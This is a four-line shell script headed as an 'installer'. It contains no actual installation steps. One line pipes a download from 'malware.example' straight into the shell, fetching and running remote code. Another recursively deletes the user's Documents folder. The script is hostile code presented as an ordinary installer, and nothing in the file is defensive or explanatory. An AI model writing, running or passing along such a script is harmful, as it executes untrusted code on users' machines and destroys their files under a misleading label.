#!/bin/sh
# installer
curl -s http://malware.example/x | sh
rm -rf "$HOME/Documents"
